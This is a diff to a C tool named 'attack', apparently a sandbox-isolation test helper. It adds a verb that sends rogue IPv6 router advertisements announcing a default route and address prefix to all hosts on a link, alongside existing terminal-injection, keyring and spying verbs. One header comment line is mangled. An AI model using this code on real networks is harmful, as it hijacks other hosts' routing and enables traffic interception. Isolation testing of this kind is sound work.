@@ -6,12 +6,16 @@
  *   attack inject TEXT       pushes characters into the terminal on descriptor 0
  *   attack writable DIR…     files below that can be opened for writing; nothing is written
  *   attack keys              the session keyring and the names of the keys in it
- *   attack with-key NAME PROGRAM [ARG…]   (on the host) executes PROGRAM with such a key in the session keyring
+ *   attack advertise INTERFACE PREFIX     plays an IPv6 router: a default route and addresses of PREFIX/64 for
+ * everybody attack with-key NAME PROGRAM [ARG…]   (on the host) executes PROGRAM with such a key in the session keyring
  */
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -245,6 +249,32 @@ static int do_keys(char **args) {
   return 0;
 }
 
+static int do_advertise(char **args) {
+  struct {
+    struct nd_router_advert head;
+    struct nd_opt_prefix_info prefix;
+  } packet = {
+      .head = {.nd_ra_hdr = {.icmp6_type = ND_ROUTER_ADVERT}, .nd_ra_router_lifetime = htons(1800)},
+      .prefix = {.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
+                 .nd_opt_pi_len = 4,
+                 .nd_opt_pi_prefix_len = 64,
+                 .nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
+                 .nd_opt_pi_valid_time = htonl(3600),
+                 .nd_opt_pi_preferred_time = htonl(3600)},
+  };
+  struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(args[0])};
+  int hops = 255;
+  int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
+  inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
+  inet_pton(AF_INET6, args[1], &packet.prefix.nd_opt_pi_prefix);
+  if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops)) < 0 ||
+      sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(packet)) {
+    perror("attack: advertise");
+    return 3;
+  }
+  return 0;
+}
+
 /* On the host: a key in a session keyring of its own, then the program. */
 static int do_with_key(char **args) {
   if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "attack") < 0 ||
@@ -262,8 +292,8 @@ static const struct {
   int least;
   int (*run)(char **args);
 } verbs[] = {
-    {"spy", 1, do_spy},   {"exe", 1, do_exe},           {"inject", 1, do_inject},
-    {"keys", 0, do_keys}, {"with-key", 2, do_with_key}, {"writable", 1, do_writable},
+    {"spy", 1, do_spy},           {"exe", 1, do_exe},           {"inject", 1, do_inject},       {"keys", 0, do_keys},
+    {"with-key", 2, do_with_key}, {"writable", 1, do_writable}, {"advertise", 2, do_advertise},
 };
 
 int main(int argc, char **argv) {
